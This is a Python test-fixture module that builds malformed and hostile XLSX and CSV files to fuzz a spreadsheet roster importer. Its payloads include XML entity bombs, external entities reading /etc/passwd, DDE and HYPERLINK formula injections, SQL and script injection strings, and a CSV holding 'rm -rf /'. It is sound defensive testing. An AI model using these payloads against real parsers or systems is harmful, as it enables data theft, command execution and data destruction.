"""XML, cells and text that a reader may choke on."""

from collections.abc import Iterator
from string import ascii_uppercase

from tools.tests.hostile.packages import PERSON, ROW, ROWS
from xianfeng.lib.tests.workbooks import MAIN, raw_workbook, text_cell

Files = Iterator[tuple[str, bytes]]
SHEET = "xl/worksheets/sheet1.xml"
HEADER = "姓名,手机号,单位\n"


def with_sheet(xml: str | bytes) -> bytes:
    return raw_workbook("", parts={SHEET: xml})


def markup() -> Files:
    entities = "".join(f'<!ENTITY e{at} "{f"&e{at - 1};" * 10 if at else "x" * 50}">' for at in range(9))
    doctypes = {
        "entity bomb": f"<!DOCTYPE x [{entities}]>", "external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:1/x"> %p;]>',
        "doctype alone": '<!DOCTYPE x SYSTEM "x.dtd">',
        "doctype far down": " " * 70_000 + "<!DOCTYPE x>",
    }  # fmt: skip
    body = f'<worksheet xmlns="{MAIN}"><sheetData>{ROWS}</sheetData></worksheet>'
    for name, doctype in doctypes.items():
        yield f"{name}.xlsx", with_sheet(doctype + body)
        yield f"{name}, UTF-16.xlsx", with_sheet((doctype + body).encode("utf-16"))
    yield "nested deep.xlsx", with_sheet("<a>" * 200_000)
    yield "nested deep and closed.xlsx", with_sheet("<a>" * 50_000 + "</a>" * 50_000)
    yield "attributes.xlsx", with_sheet("<a " + " ".join(f'a{at}="x"' for at in range(100_000)) + "/>")
    yield "one attribute of 8 MB.xlsx", with_sheet(f'<a b="{"x" * 8 * 2**20}"/>')
    yield "not closed.xlsx", with_sheet(body[:-20])
    yield "no character.xlsx", with_sheet(body.replace("张三", "&#0;&#x1f;"))
    yield "unknown entity.xlsx", with_sheet(body.replace("张三", "&nbsp;"))
    yield "lies about its encoding.xlsx", with_sheet('<?xml version="1.0" encoding="utf-7"?>' + body)
    yield "no encoding.xlsx", with_sheet(body.encode("gb18030"))
    yield "inclusion.xlsx", with_sheet('<?xml-stylesheet href="file:///etc/passwd"?>' + body)
    yield "cdata.xlsx", with_sheet(f"<a><![CDATA[{'<x>' * 300_000}]]></a>")
    yield (
        "workbook is html.xlsx",
        raw_workbook(ROWS, parts={"xl/workbook.xml": "<html><body>x</body></html>"}),
    )
    yield "rels nested.xlsx", raw_workbook(ROWS, parts={"xl/_rels/workbook.xml.rels": "<a>" * 100_000})


REFERENCES = ("XFD1048576", "A1048577", "AAAA1", "ZZZZZZ9", "A0", "A-1", "1A", "A99999999999", "$A$1", "")
VALUES = (
    ("s", "999999"), ("s", "-1"), ("s", "x"), ("b", "7"), ("e", "#REF!"), ("n", "1e999"), ("n", "nan"),
    ("n", "--1"), ("d", "2026-99-99"), ("zz", "x"), ("str", "x" * 40_000),
)  # fmt: skip
FORMULAS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://127.0.0.1:1/?"&amp;A1)', "'\\\\127.0.0.1\\x'!A1", "A1" * 90_000,
)  # fmt: skip


def cells() -> Files:
    for reference in REFERENCES:
        content = raw_workbook(f'{ROWS}<row r="3">{text_cell(reference, "x")}</row>')
        yield f"cell {reference or 'nowhere'}.xlsx", content
    for row in ("-1", "0", "abc", "99999999999999999999", "1e5", ""):
        yield f"row {row or 'none'}.xlsx", raw_workbook(f'{ROWS}<row r="{row}">{text_cell("A3", "x")}</row>')
    for kind, text in VALUES:
        yield f"value {kind} {text[:9]}.xlsx", beside(f'<c r="D2" t="{kind}"><v>{text}</v></c>')
    for at, formula in enumerate(FORMULAS):
        yield f"formula {at}.xlsx", beside(f'<c r="D2"><f>{formula}</f></c>')


def beside(cell: str) -> bytes:
    """The cell behind a row of the roster."""
    return raw_workbook(f'<row r="1">{ROW}</row><row r="2">{PERSON}{cell}</row>')


def areas() -> Files:
    many = "".join(f'<mergeCell ref="A{at}:C{at}"/>' for at in range(1, 60_000))
    merges = {
        "of everything": '<mergeCell ref="A1:XFD1048576"/>', "many": many,
        "backwards": '<mergeCell ref="C9:A1"/>', "nowhere": '<mergeCell ref="x:y"/>',
    }  # fmt: skip
    for name, refs in merges.items():
        merged = f"<sheetData>{ROWS}</sheetData><mergeCells>{refs}</mergeCells>"
        yield f"merge {name}.xlsx", with_sheet(f'<worksheet xmlns="{MAIN}">{merged}</worksheet>')
    same = "".join(
        f'<row r="{row}">'
        + "".join(f'<c r="{letter}{row}" t="s"><v>0</v></c>' for letter in "ABC")
        + "</row>"
        for row in range(1, 5_000)
    )
    yield "one long string everywhere.xlsx", raw_workbook(same, shared="长" * 32_000)
    columns = (f"{one}{other}1" for one in ascii_uppercase[:14] for other in ascii_uppercase)
    wide = "".join(text_cell(column, "x") for column in columns)
    yield "columns without end.xlsx", raw_workbook(f'<row r="1">{wide}</row>')
    hidden = {"without end": '<col min="1" max="99999999" hidden="1"/>', "of nothing": '<col hidden="1"/>'}
    for name, column in hidden.items():
        yield f"hidden columns {name}.xlsx", raw_workbook(ROWS, before=f"<cols>{column}</cols>")


ATTACKS = (
    '=HYPERLINK("x")', "+cmd|' /C calc'!A0", "@SUM(1)", "'; DROP TABLE members_member; --", "<script>",
    "{{7*7}}", "%n%s", "..\\..\\x", "11010519491231002X", "𠮷" * 5_000,
)  # fmt: skip


def texts() -> Files:
    yield "empty.csv", b""
    yield "blank.csv", b" \r\n\t" * 500
    yield "only a mark.csv", b"\xef\xbb\xbf"
    yield "no end of a quote.csv", (HEADER + '"' + "x" * 5 * 2**20).encode()
    yield "one line of 9 MB.csv", b"x" * 9 * 2**20
    yield "columns.csv", b"," * 200_000
    yield "rows.csv", (HEADER + "张三,13800000099,查无此单位\n" * 70_000).encode()
    yield "quotes.csv", (HEADER + '""""""""""""' * 50_000).encode()
    yield "nul.csv", HEADER.encode() + b"a\0b,c,d\n"
    yield "controls.csv", (HEADER + "张\x01三,138\x1f00000099,查\x08无\n").encode()
    yield "right to left.csv", (HEADER + "\u202e三张,\u206613800000099\u2069,\u2067查无此单位\n").encode()
    yield "utf-16 without a mark.csv", HEADER.encode("utf-16-le")
    yield "utf-32.csv", HEADER.encode("utf-32")
    yield "half a character.csv", HEADER.encode()[:-3] + b"\xe5\x8d\n\xff\xfe\n"
    yield "page.xls", f"<html><table><tr><td>{HEADER}</td></tr></table></html>".encode()
    yield "xml 2003.xls", b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?><Workbook/>'
    yield "sylk.csv", b'ID;PWXL;N;E\nC;Y1;X1;K"x"\nE\n'
    yield "json.csv", b'{"a": [1, 2, 3]}'
    yield "script.csv", b"#!/bin/sh\nrm -rf /\n"
    yield "rtf.xls", b"{\\rtf1\\ansi x}"
    yield "header alone.csv", HEADER.encode()
    yield "header in row 11.csv", ("x,y,z\n" * 10 + HEADER + "张三,13800000099,查无此单位\n").encode()
    yield "header twice.csv", ("姓名,姓名,手机号,单位\n张三,李四,13800000099,查无此单位\n").encode()
    for at, attack in enumerate(ATTACKS):
        quoted = attack.replace('"', '""')
        yield f"attack {at}.csv", f'{HEADER}"{quoted}","{quoted}","{quoted}"\n'.encode()


def files() -> Files:
    for family in (markup, cells, areas, texts):
        yield from family()
